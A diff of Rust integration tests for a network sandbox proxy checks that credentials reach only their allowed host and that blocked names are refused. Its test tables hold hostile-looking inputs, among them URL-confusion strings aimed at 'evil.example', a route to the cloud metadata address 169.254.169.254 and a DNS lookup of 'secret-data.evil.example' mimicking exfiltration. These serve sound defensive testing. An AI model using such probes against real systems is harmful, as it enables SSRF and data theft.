@@ -42,7 +42,11 @@ impl Origin {
         put("ca.pem", &certified.ca);
         let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/origin.py");
         let mut command = Command::new("/usr/bin/python3");
-        command.arg(helper).args([&folder, &certificate, &key, &log]).args([address, &port.to_string()]).stdout(Stdio::piped());
+        command
+            .arg(helper)
+            .args([&folder, &certificate, &key, &log])
+            .args([address, &port.to_string()])
+            .stdout(Stdio::piped());
         let mut child = command.spawn().unwrap();
         let mut line = String::new();
         BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
@@ -119,13 +123,40 @@ fn c6_a_credential_reaches_its_host_and_nothing_of_the_program() {
     let rows = origin.net(&brain);
     let with: Vec<&Value> = rows.iter().filter(|row| row["credential"] == "API_KEY").collect();
     assert_eq!(with.len(), 1, "{rows:?}");
-    assert!(with[0]["target"] == json!(origin.target) && with[0]["connections"] == 2 && with[0]["refused"] == 1, "{rows:?}");
+    assert!(
+        with[0]["target"] == json!(origin.target) && with[0]["connections"] == 2 && with[0]["refused"] == 1,
+        "{rows:?}"
+    );
     assert!(origin.desk.data().join("trust").read_dir().unwrap().next().is_none(), "what the cell trusted is gone");
     let unknown = origin.exec(&["--credential", "OTHER"], "touch it-ran");
     assert!(unknown.code == Some(2) && unknown.err.contains("there are: API_KEY"), "{unknown:?}");
     let elsewhere = origin.exec(&["--credential", "API_KEY=api.example.org"], "touch it-ran");
     assert!(elsewhere.code == Some(2) && elsewhere.err.contains("is for 127.0.0.1:"), "{elsewhere:?}");
     assert_eq!(origin.desk.read("it-ran"), None);
+}
+
+/// A name server of a network of our own.
+struct Names {
+    log: PathBuf,
+    child: Child,
+}
+
+impl Names {
+    fn start(desk: &Desk, known: &[&str]) -> Self {
+        let log = desk.base.path().join("names");
+        let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/names.py");
+        let mut command = Command::new("/usr/bin/python3");
+        let mut child = command.arg(helper).arg(&log).args(known).stdout(Stdio::piped()).spawn().unwrap();
+        BufReader::new(child.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
+        Self { log, child }
+    }
+}
+
+impl Drop for Names {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
 }
 
 /// All of a process's memory that can be read.
@@ -138,9 +169,9 @@ fn is_in_memory(key: &Canary, pid: u32) -> bool {
         let (from, to) = range.split_once('-').unwrap();
         let [from, to] = [from, to].map(|text| u64::from_str_radix(text, 16).unwrap());
         let mut bytes = vec![0; usize::try_from(to - from).unwrap().min(1 << 28)];
-        memory.read_at(&mut bytes, from).is_ok_and(|read| {
-            bytes[..read].windows(key.as_str().len()).any(|window| window == key.as_str().as_bytes())
-        })
+        memory
+            .read_at(&mut bytes, from)
+            .is_ok_and(|read| bytes[..read].windows(key.as_str().len()).any(|window| window == key.as_str().as_bytes()))
     })
 }
 
@@ -238,10 +269,8 @@ fn a_person_is_asked_about_a_host_once() {
     let yes = run("y");
     assert!(yes.matches("the file").count() == 2 && yes.matches("[y/N]").count() == 1, "{yes}");
     let brains = origin.desk.autoshare(["ps", "--json"]).json_lines();
-    let said: String = brains
-        .iter()
-        .map(|row| origin.desk.autoshare(["net", row["brain"].as_str().unwrap()]).err)
-        .collect();
+    let said: String =
+        brains.iter().map(|row| origin.desk.autoshare(["net", row["brain"].as_str().unwrap()]).err).collect();
     for word in ["yes", "no"] {
         let words = format!("was asked whether {} may be reached, and said {word}", origin.target);
         assert!(said.contains(&words), "{word}: {said}");
@@ -255,7 +284,13 @@ fn a_person_is_asked_about_a_host_once() {
 /// The tools that programs and agents use, each against a server of its own kind, with a credential that they never have.
 #[test]
 fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
-    let (origin, key) = (Origin::start(), Canary::new());
+    // Of a host that is an address npm verifies another name: they are given one that has a name.
+    if !is_own_network("network::c6_curl_git_pip_npm_and_cargo_work_through_the_proxy") {
+        return;
+    }
+    let (mut origin, key) = (Origin::start_at(PUBLIC[0], 443, &["tools.example"]), Canary::new());
+    origin.target = "tools.example".to_owned();
+    let _names = Names::start(&origin.desk, &[&format!("tools.example={}", PUBLIC[0])]);
     let url = format!("https://{}", origin.target);
     let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/stock.py");
     let stocked = Command::new("/usr/bin/python3").arg(helper).arg(&origin.folder).arg(&url).output().unwrap();
@@ -271,7 +306,7 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
     );
     // (credential, script, its output, paths that were asked for)
     let table = [
-        ("TOKEN", format!("curl -fsS {url}/simple/tiny/ | head -c 8"), "<a href=", vec!["/simple/tiny/"]),
+        ("TOKEN", format!("curl -fsS -o page {url}/simple/tiny/ && head -c 8 page"), "<a href=", vec!["/simple/tiny/"]),
         (
             "GIT_TOKEN",
             format!(
@@ -314,7 +349,8 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
             assert!(key.is_in(one["headers"]["authorization"].as_str().unwrap().as_bytes()), "{path}: {one}");
         }
         assert!(!key.is_in(format!("{ran:?}").as_bytes()), "{script}");
-        let without = origin.exec(&["--read", sysroot], &format!("rm -rf tiny lib npm cargo; {script}"));
+        let without = origin
+            .exec(&["--limit", "time=60", "--read", sysroot], &format!("rm -rf page tiny lib npm cargo; {script}"));
         assert!(without.code != Some(0), "the control: no way out: {script}: {without:?}");
         assert_eq!(key.find_in(&origin.desk.workspace), Vec::<PathBuf>::new());
     }
@@ -331,7 +367,6 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
     let names = ["files.example", "rebound.example", "xn--bcher-kva.example"];
     let origin = Origin::start_at(PUBLIC[0], 443, &names);
     origin.put("a", "the file\n");
-    let log = origin.desk.base.path().join("names");
     let known = [
         format!("files.example={}", PUBLIC[0]),
         format!("xn--bcher-kva.example={}", PUBLIC[0]),
@@ -340,10 +375,8 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
         "metadata.example=169.254.169.254".to_owned(),
         format!("evil.example={}", PUBLIC[1]),
     ];
-    let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/names.py");
-    let mut command = Command::new("/usr/bin/python3");
-    let mut server = command.arg(helper).arg(&log).args(known).stdout(Stdio::piped()).spawn().unwrap();
-    BufReader::new(server.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
+    let known: Vec<&str> = known.iter().map(String::as_str).collect();
+    let names_asked = Names::start(&origin.desk, &known);
     let ca = std::fs::read_to_string(origin.desk.base.path().join("ca.pem")).unwrap();
     origin.desk.write("ca.pem", &ca);
     let hosts = [&names[..], &["inside.example", "metadata.example"]].concat();
@@ -360,7 +393,9 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
         ("https://files.example.evil.example/a", "403"),
         ("https://evilfiles.example/a", "403"),
         ("http://files.example:80@evil.example/", "evil.example cannot be reached"),
-        ("http://evil.example\\\\@files.example/", "40"),
+        // curl takes this for a password and goes to the host that is allowed, which has nothing there: the one that is
+        // judged is the one that is connected to.
+        ("http://evil.example\\\\@files.example/", "files.example:80: Connection refused"),
         // c1: names that lead inside
         ("https://inside.example/", "502"),
         ("http://metadata.example/latest/", "169.254.169.254, which is not on the internet"),
@@ -388,16 +423,17 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
          echo \"== $(python3 -c 'import socket; socket.getaddrinfo(\"secret-data.evil.example\", 443)' 2>&1 | tail -n 1)\""
     );
     let ran = origin.exec(&flags, &script);
-    server.kill().unwrap();
-    server.wait().unwrap();
     let seen: Vec<&str> = ran.out.split("== ").skip(1).collect();
     assert_eq!(seen.len(), table.len() + 3, "{ran:?}");
     for ((args, expected), seen) in table.iter().zip(&seen) {
         assert!(seen.contains(expected), "{args}: {seen}");
     }
     let rest = &seen[table.len()..];
-    assert!(rest[0].contains("403") && rest[1].starts_with("unknown") && rest[2].contains("socket.gaierror"), "{rest:?}");
-    let asked = std::fs::read_to_string(&log).unwrap();
+    assert!(
+        rest[0].contains("403") && rest[1].starts_with("unknown") && rest[2].contains("socket.gaierror"),
+        "{rest:?}"
+    );
+    let asked = std::fs::read_to_string(&names_asked.log).unwrap();
     assert!(asked.contains("files.example 1\n"), "the control: {asked}");
     assert!(!asked.contains("evil") && !asked.contains("secret"), "no name was asked for that no rule allows: {asked}");
     let reached = origin.net(&origin.desk.brain());
